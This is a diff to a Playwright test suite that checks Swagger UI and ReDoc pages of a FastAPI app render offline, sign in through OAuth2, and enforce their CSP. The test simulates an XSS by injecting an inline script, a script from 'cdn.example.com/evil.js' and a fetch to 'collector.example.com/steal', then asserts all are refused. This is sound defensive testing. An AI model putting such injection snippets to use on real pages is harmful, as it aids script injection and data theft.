@@ -1,6 +1,8 @@
 """Swagger UI and ReDoc in real Chromium with every host but the app's blocked: both render
-the operations from the app's own files, Swagger's "Authorize" signs in through the OAuth2
-password flow and "Try it out" then reads `/auth/me`, and each page's CSP is enforced."""
+every operation from the app's own files, Swagger's "Authorize" signs in through the OAuth2
+password flow and "Try it out" then reads `/auth/me`, and each page's CSP is enforced (nothing
+refused while the page works; an injected inline script, a foreign script and a foreign fetch
+refused)."""
 
 from __future__ import annotations
 
@@ -19,25 +21,35 @@ from tests.servers import Server, uvicorn_server
 
 HTTP_METHODS = {"get", "put", "post", "delete", "patch", "head", "options", "trace"}
 RENDER_TIMEOUT_MS = 60_000  # the bundles parse slowly on a loaded machine
+FOREIGN_SCRIPT = "https://cdn.example.com/evil.js"
+FOREIGN_API = "https://collector.example.com/steal"
 
-# Records what the page tried and what its CSP refused; an init script runs before any of the
-# page's own, and is not subject to the page's policy (Playwright adds it).
+# Runs before the page's own scripts and is not subject to its policy (Playwright adds it):
+# every CSP refusal of the page lands in window.__violations.
 _WATCH_VIOLATIONS = """
 window.__violations = [];
 document.addEventListener("securitypolicyviolation", (e) => {
   window.__violations.push({directive: e.effectiveDirective, blocked: e.blockedURI});
 });
 """
-_INJECT_INLINE_SCRIPT = """() => {
-  const script = document.createElement("script");
-  script.textContent = "window.__injected = true";
-  document.body.appendChild(script);
+# What an XSS would try: an inline script, a script from another host, a call to another host.
+_INJECT = """async ([scriptUrl, apiUrl]) => {
+  const inline = document.createElement("script");
+  inline.textContent = "window.__injected = true";
+  document.body.appendChild(inline);
+  const foreign = document.createElement("script");
+  foreign.src = scriptUrl;
+  const loaded = new Promise((done) => { foreign.onload = foreign.onerror = done; });
+  document.body.appendChild(foreign);
+  await loaded;
+  const fetched = await fetch(apiUrl).then(() => "answered", () => "refused");
+  return {injected: window.__injected === true, fetched};
 }"""
 
 
 @pytest.fixture(scope="module")
 def docs_server(app: FastAPI, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
-    """The app with its default settings (bearer tokens in the body, as Swagger needs)."""
+    """The app with its default settings (tokens in the body, as Swagger's Authorize needs)."""
     log = tmp_path_factory.mktemp("docs") / "uvicorn.log"
     with uvicorn_server(free_browser_port(), log) as server:
         yield server
@@ -50,34 +62,38 @@ class Watched:
     foreign: list[str] = field(default_factory=list)
     console_errors: list[str] = field(default_factory=list)
 
+    def note(self, message: ConsoleMessage) -> None:
+        if message.type == "error":
+            self.console_errors.append(message.text)
+
+
+@dataclass
+class Offline:
+    context: BrowserContext
+    watched: Watched
+
 
 @pytest.fixture
-async def offline(browser: Browser, docs_server: Server) -> AsyncIterator[tuple[BrowserContext, Watched]]:
-    """A profile that can reach the app's origin and nothing else: any other request is
-    recorded and aborted."""
+async def offline(browser: Browser, docs_server: Server) -> AsyncIterator[Offline]:
+    """A profile that reaches the app's origin and nothing else: any other request is recorded
+    and aborted."""
     watched = Watched()
     context = await browser.new_context()
 
     async def only_the_app(route: Route) -> None:
-        url = route.request.url
-        if url.startswith(f"{docs_server.base_url}/"):
+        if route.request.url.startswith(f"{docs_server.base_url}/"):
             await route.continue_()
         else:
-            watched.foreign.append(url)
+            watched.foreign.append(route.request.url)
             await route.abort()
 
     await context.route("**/*", only_the_app)
     await context.add_init_script(_WATCH_VIOLATIONS)
-    context.on("console", lambda message: _note_error(watched, message))
+    context.on("console", watched.note)
     try:
-        yield context, watched
+        yield Offline(context, watched)
     finally:
         await context.close()
-
-
-def _note_error(watched: Watched, message: ConsoleMessage) -> None:
-    if message.type == "error":
-        watched.console_errors.append(message.text)
 
 
 @pytest.fixture
@@ -85,7 +101,9 @@ async def account(docs_server: Server, api: str) -> str:
     """A registered account's email."""
     email = f"{unique('docs')}@example.com"
     async with httpx.AsyncClient(base_url=docs_server.base_url, timeout=30) as http:
-        created = await http.post(f"{api}/auth/register", json={"email": email, "password": PASSWORD})
+        created = await http.post(
+            f"{api}/auth/register", json={"email": email, "password": PASSWORD}
+        )
     assert created.status_code == 201, created.text
     return email
 
@@ -98,70 +116,80 @@ async def operations(docs_server: Server) -> int:
     return sum(len(HTTP_METHODS & set(item)) for item in document["paths"].values())
 
 
-async def _violations(page: Page) -> list[dict[str, Any]]:
-    found: list[dict[str, Any]] = await page.evaluate("window.__violations")
-    return found
-
-
-async def _open(context: BrowserContext, url: str) -> Page:
-    page = await context.new_page()
+async def _open(offline: Offline, url: str) -> Page:
+    page = await offline.context.new_page()
     response = await page.goto(url)
     assert response is not None
     assert response.status == 200, response.status
     return page
 
 
-async def test_swagger_lists_the_operations_and_authorize_signs_in(
-    offline: tuple[BrowserContext, Watched],
-    docs_server: Server,
-    account: str,
-    operations: int,
-    api: str,
+async def _violations(page: Page) -> list[dict[str, Any]]:
+    found: list[dict[str, Any]] = await page.evaluate("window.__violations")
+    return found
+
+
+async def _assert_clean_then_csp_refuses_injection(page: Page, offline: Offline) -> None:
+    """Nothing was refused or logged while the page worked; what an XSS would add is refused by
+    the page's policy before any request leaves the browser."""
+    assert await _violations(page) == []
+    assert offline.watched.console_errors == []
+    assert offline.watched.foreign == []
+
+    outcome = await page.evaluate(_INJECT, [FOREIGN_SCRIPT, FOREIGN_API])
+
+    assert outcome == {"injected": False, "fetched": "refused"}
+    assert await _violations(page) == [
+        {"directive": "script-src-elem", "blocked": "inline"},
+        {"directive": "script-src-elem", "blocked": FOREIGN_SCRIPT},
+        {"directive": "connect-src", "blocked": FOREIGN_API},
+    ]
+    assert offline.watched.foreign == []  # refused by the CSP, not by the test's blocking
+    assert all("Content Security Policy" in error for error in offline.watched.console_errors)
+
+
+async def test_swagger_lists_every_operation_and_authorize_signs_in(
+    offline: Offline, docs_server: Server, account: str, operations: int, api: str
 ) -> None:
-    context, watched = offline
-    page = await _open(context, f"{docs_server.base_url}/docs")
+    page = await _open(offline, f"{docs_server.base_url}/docs")
     blocks = page.locator(".opblock")
-    try:
-        await blocks.first.wait_for(timeout=30000)
-    finally:
-        print("DEBUG", watched, await _violations(page), (await page.inner_text("body"))[:3000])
-    print("opblocks", await blocks.count(), "operations", operations)
+    await blocks.first.wait_for(timeout=RENDER_TIMEOUT_MS)
+    assert await blocks.count() == operations
 
     await page.locator(".scheme-container button.authorize").click()
-    oauth = page.locator(".auth-container").filter(has=page.locator("#oauth_username"))
+    oauth = page.locator(".auth-container").filter(has_text="BearerToken")  # password flow
     await oauth.locator("#oauth_username").fill(account)
     await oauth.locator("#oauth_password").fill(PASSWORD)
     async with page.expect_response(f"**{api}/auth/token") as token_answer:
         await oauth.locator("button.authorize").click()
-    token = await token_answer.value
-    print("token", token.status, await token.text())
-    await oauth.locator("button", has_text="Logout").wait_for()
-    await page.locator(".dialog-ux button.btn-done").click()
+    assert (await token_answer.value).status == 200
+    await oauth.locator("button", has_text="Logout").wait_for()  # Swagger holds the token
+    await oauth.locator("button.btn-done").click()
 
-    me = page.locator(".opblock").filter(
-        has=page.locator(f'.opblock-summary-path[data-path="{api}/auth/me"]')
-    )
+    me = blocks.filter(has=page.locator(f'.opblock-summary-path[data-path="{api}/auth/me"]'))
     await me.locator(".opblock-summary").click()
     await me.locator("button.try-out__btn").click()
     async with page.expect_response(f"**{api}/auth/me") as me_answer:
         await me.locator("button.execute").click()
     answer = await me_answer.value
-    print("me", answer.status, await answer.request.all_headers())
-    print("violations", await _violations(page))
-    await page.evaluate(_INJECT_INLINE_SCRIPT)
-    print("injected", await page.evaluate("window.__injected"), await _violations(page))
-    print("foreign", watched.foreign, "errors", watched.console_errors)
+    assert answer.status == 200
+    assert (await answer.request.header_value("authorization") or "").startswith("Bearer ")
+    assert (await answer.json())["email"] == account
+    shown = me.locator(".live-responses-table tr.response .response-col_status")
+    assert (await shown.inner_text()).strip() == "200"
+
+    await _assert_clean_then_csp_refuses_injection(page, offline)
 
 
-async def test_redoc_renders_the_operations(
-    offline: tuple[BrowserContext, Watched], docs_server: Server, operations: int, api: str
+async def test_redoc_renders_every_operation(
+    offline: Offline, docs_server: Server, operations: int
 ) -> None:
-    context, watched = offline
-    page = await _open(context, f"{docs_server.base_url}/redoc")
-    sections = page.locator('[data-section-id*="operation/"]')
+    page = await _open(offline, f"{docs_server.base_url}/redoc")
+    sections = page.locator('[data-section-id^="operation/"]')  # one per operation
     await sections.first.wait_for(timeout=RENDER_TIMEOUT_MS)
-    print("sections", await sections.count(), "operations", operations)
-    print("violations", await _violations(page))
-    await page.evaluate(_INJECT_INLINE_SCRIPT)
-    print("injected", await page.evaluate("window.__injected"), await _violations(page))
-    print("foreign", watched.foreign, "errors", watched.console_errors)
+    assert await sections.count() == operations
+    logo = page.locator('img[alt="redocly logo"]')  # served by the app, not Redocly's CDN
+    await logo.wait_for()
+    assert await logo.evaluate("(img) => img.complete && img.naturalWidth > 0")
+
+    await _assert_clean_then_csp_refuses_injection(page, offline)
